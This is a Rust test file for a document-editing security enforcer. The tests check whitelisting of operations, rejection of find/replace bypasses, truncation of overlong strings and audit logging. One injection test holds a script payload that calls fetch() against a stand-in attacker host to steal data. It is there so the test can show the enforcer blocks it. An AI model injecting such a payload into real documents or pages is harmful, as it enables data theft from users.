/*!
 * Tests for constraint enforcement over untrusted plans
 */

use std::sync::Arc;

use anyhow::Result;
use serde_json::json;

use docwarden::audit::AuditSink;
use docwarden::enforcer::{ConstraintEnforcer, EnforcementLimits};
use docwarden::errors::SecurityViolationKind;
use crate::common;

fn enforcer_in(dir: &std::path::Path) -> (Arc<AuditSink>, ConstraintEnforcer) {
    let sink = Arc::new(AuditSink::create(dir).unwrap());
    let enforcer = ConstraintEnforcer::new(Arc::clone(&sink), EnforcementLimits::default());
    (sink, enforcer)
}

/// Test that a whitelist violation enumerates all six allowed operations
#[test]
fn test_enforce_withForeignOperation_shouldEnumerateWholeWhitelist() -> Result<()> {
    let temp_dir = common::create_temp_dir()?;
    let (_sink, enforcer) = enforcer_in(temp_dir.path());

    let plan = common::plan_with_ops(json!([
        { "operation_type": "insert_chart", "target": "body" }
    ]));
    let outcome = enforcer.enforce(&plan);

    assert!(!outcome.is_allowed());
    let whitelist_errors: Vec<_> = outcome
        .result
        .error_messages()
        .into_iter()
        .filter(|m| m.contains("not whitelisted"))
        .collect();
    assert_eq!(whitelist_errors.len(), 1, "One op should produce one whitelist error");

    // Every allowed tag must appear in the message
    let message = &whitelist_errors[0];
    for tag in [
        "delete_section_by_heading",
        "update_toc",
        "delete_toc",
        "set_style_rule",
        "reassign_paragraphs_to_style",
        "clear_direct_formatting",
    ] {
        assert!(message.contains(tag), "Whitelist message should name {}", tag);
    }
    Ok(())
}

/// Test that the recorded injection violation carries the signature and the
/// path, not the payload itself
#[test]
fn test_enforce_withInjectionPayload_shouldRecordSignatureWithoutPayload() -> Result<()> {
    let temp_dir = common::create_temp_dir()?;
    let (sink, enforcer) = enforcer_in(temp_dir.path());

    let payload = "<script>fetch('https://evil.example/steal')</script>";
    let plan = common::plan_with_ops(json!([
        { "operation_type": "delete_section_by_heading", "heading_text": payload, "level": 1 }
    ]));
    let outcome = enforcer.enforce(&plan);

    assert!(!outcome.is_allowed());
    assert_eq!(outcome.primary_violation(), Some(SecurityViolationKind::Injection));
    assert_eq!(outcome.sanitized_plan, None, "Malicious plans must never be sanitized through");

    let records = sink.read_violations()?;
    let injection = records
        .iter()
        .find(|r| r.violation_type == "injection")
        .expect("injection record should exist");
    assert!(injection.context.contains("<script"), "Record should name the signature");
    assert!(injection.context.contains("heading_text"), "Record should name the offending path");
    assert!(
        !injection.context.contains("evil.example"),
        "Record must not replay the payload body"
    );
    Ok(())
}

/// Test that find/replace idioms are rejected even under a whitelisted tag
#[test]
fn test_enforce_withFindReplaceIdiom_shouldRejectAsWhitelistBypass() -> Result<()> {
    let temp_dir = common::create_temp_dir()?;
    let (sink, enforcer) = enforcer_in(temp_dir.path());

    let plan = common::plan_with_ops(json!([
        { "operation_type": "update_toc", "find": "old title", "replace": "new title" }
    ]));
    let outcome = enforcer.enforce(&plan);

    assert!(!outcome.is_allowed());
    assert_eq!(outcome.primary_violation(), Some(SecurityViolationKind::WhitelistBypass));
    assert!(outcome
        .result
        .error_messages()
        .iter()
        .any(|m| m.contains("string-replacement")));

    let records = sink.read_violations()?;
    assert!(records.iter().any(|r| r.violation_type == "whitelist_bypass"));
    Ok(())
}

/// Test that an overlong benign string is truncated to exactly the limit
/// with exactly one warning
#[test]
fn test_enforce_withOverlongHeading_shouldTruncateToExactLimit() -> Result<()> {
    let temp_dir = common::create_temp_dir()?;
    let sink = Arc::new(AuditSink::create(temp_dir.path())?);
    let enforcer = ConstraintEnforcer::new(sink, EnforcementLimits { max_string_length: 100 });

    let long_heading: String = "第".repeat(350);
    let plan = common::plan_with_ops(json!([
        { "operation_type": "delete_section_by_heading", "heading_text": long_heading, "level": 1 }
    ]));
    let outcome = enforcer.enforce(&plan);

    assert!(outcome.is_allowed(), "Length is a sanitization concern, not a violation");
    let truncation_warnings: Vec<_> = outcome
        .result
        .warning_messages()
        .into_iter()
        .filter(|w| w.contains("truncated"))
        .collect();
    assert_eq!(truncation_warnings.len(), 1);

    let sanitized = outcome.sanitized_plan.expect("clean plan should sanitize through");
    let text = sanitized["ops"][0]["heading_text"].as_str().unwrap();
    assert_eq!(text.chars().count(), 100, "Truncation must land exactly on the limit");
    Ok(())
}

/// Test that a clean multi-operation plan passes with no violation records
#[test]
fn test_enforce_withCleanPlan_shouldLeaveNoViolationRecords() -> Result<()> {
    let temp_dir = common::create_temp_dir()?;
    let (sink, enforcer) = enforcer_in(temp_dir.path());

    let plan = common::plan_with_ops(json!([
        { "operation_type": "delete_section_by_heading", "heading_text": "摘要", "level": 1, "match": "EXACT" },
        { "operation_type": "update_toc", "max_level": 3 },
        { "operation_type": "clear_direct_formatting", "scope": "body", "authorization_required": true }
    ]));
    let outcome = enforcer.enforce(&plan);

    assert!(outcome.is_allowed(), "unexpected errors: {:?}", outcome.result.errors);
    assert!(outcome.sanitized_plan.is_some());
    assert!(sink.read_violations()?.is_empty());
    Ok(())
}
